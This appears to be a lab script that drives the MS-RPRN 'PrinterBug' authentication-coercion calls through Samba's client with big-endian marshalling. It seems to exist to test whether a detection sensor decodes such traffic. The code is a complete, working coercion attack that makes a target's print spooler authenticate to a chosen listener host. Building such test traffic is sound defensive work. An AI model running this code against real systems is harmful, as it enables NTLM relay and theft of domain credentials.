"""PrinterBug from Samba's own DCE/RPC client, marshalling big endian: the binding option
``bigendian`` makes Samba's client send drep[0] = 0x00 (C706 14.2.5, big-endian integers), a
legal choice any client may make and the one a little-endian-only decoder would miss.

Run by the system interpreter, which has python3-samba (the sensor's venv does not):
  /usr/bin/python3 samba_bigendian_client.py --target 10.0.0.10 --listener 10.0.0.66

Calls, over \\PIPE\\spoolss (SMB 2.1, as impacket-based tools negotiate it), with nested
structures on the wire: RpcOpenPrinterEx (69, a client-info union holding two embedded strings),
RpcRemoteFindFirstPrinterChangeNotificationEx (65, notify options: an array of structures each
with a pointer to an array), RpcEnumPrinters (0). One JSON line per call: what was sent.
"""
from __future__ import annotations

import argparse
import json
import sys
import time

from samba import credentials, param
from samba.dcerpc import misc, spoolss

ACCESS_SERVER = 0x00020002          # SERVER_ACCESS_ENUMERATE | READ_CONTROL, as PrinterBug tools ask
PRINTER_CHANGE_ADD_JOB = 0x00000100


def user_level_ctr(client: str) -> spoolss.UserLevelCtr:
    info = spoolss.UserLevel1()
    info.size = 28
    info.client = client
    info.user = "labuser"
    info.build = 7601
    info.major = 6
    info.minor = 1
    info.processor = 0
    ctr = spoolss.UserLevelCtr()
    ctr.level = 1
    ctr.user_info = info
    return ctr


def notify_options() -> spoolss.NotifyOption:
    printer = spoolss.NotifyOptionType()
    printer.type = spoolss.PRINTER_NOTIFY_TYPE
    printer.count = 2
    printer.fields = [spoolss.PRINTER_NOTIFY_FIELD_SERVER_NAME, spoolss.PRINTER_NOTIFY_FIELD_STATUS]
    job = spoolss.NotifyOptionType()
    job.type = spoolss.JOB_NOTIFY_TYPE
    job.count = 1
    job.fields = [spoolss.JOB_NOTIFY_FIELD_DOCUMENT]
    options = spoolss.NotifyOption()
    options.version = 2
    options.count = 2
    options.types = [printer, job]
    return options


def emit(opnum: int, function: str, args: dict, status: str, sent: float) -> None:
    print(json.dumps({"interface_uuid": "12345678-1234-abcd-ef00-0123456789ab", "opnum": opnum, "function": function,
                      "args": args, "status": status, "sent": sent}), flush=True)


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--target", required=True)
    p.add_argument("--listener", required=True)
    p.add_argument("--user", default="labuser")
    p.add_argument("--password", default="Passw0rd!")
    p.add_argument("--domain", default="LAB")
    opts = p.parse_args()
    lp = param.LoadParm()
    lp.set("client min protocol", "SMB2_10")
    lp.set("client max protocol", "SMB2_10")
    lp.set("client smb encrypt", "off")
    creds = credentials.Credentials()
    creds.guess(lp)
    creds.set_username(opts.user)
    creds.set_password(opts.password)
    creds.set_domain(opts.domain)
    pipe = spoolss.spoolss(f"ncacn_np:{opts.target}[spoolss,bigendian]", lp, creds)

    server = f"\\\\{opts.target}"
    sent = time.time()
    try:
        handle = pipe.OpenPrinterEx(server, None, spoolss.DevmodeContainer(), ACCESS_SERVER,
                                    user_level_ctr(f"\\\\{opts.listener}"))
        status = "ok"
    except Exception as exc:        # the call crossed the wire; the server's answer is not the point
        handle, status = misc.policy_handle(), f"error: {exc}"
    emit(69, "RpcOpenPrinterEx", {"pPrinterName": server, "AccessRequired": ACCESS_SERVER}, status, sent)

    local_machine = f"\\\\{opts.listener}"
    sent = time.time()
    try:
        pipe.RemoteFindFirstPrinterChangeNotifyEx(handle, PRINTER_CHANGE_ADD_JOB, 0, local_machine, 0,
                                                  notify_options())
        status = "ok"
    except Exception as exc:
        status = f"error: {exc}"
    emit(65, "RpcRemoteFindFirstPrinterChangeNotificationEx",
         {"fdwFlags": PRINTER_CHANGE_ADD_JOB, "fdwOptions": 0, "pszLocalMachine": local_machine, "dwPrinterLocal": 0},
         status, sent)

    sent = time.time()
    try:
        pipe.EnumPrinters(spoolss.PRINTER_ENUM_LOCAL, server, 1, None, 0)
        status = "ok"
    except Exception as exc:
        status = f"error: {exc}"
    emit(0, "RpcEnumPrinters", {"Flags": spoolss.PRINTER_ENUM_LOCAL, "Name": server, "Level": 1, "cbBuf": 0}, status, sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
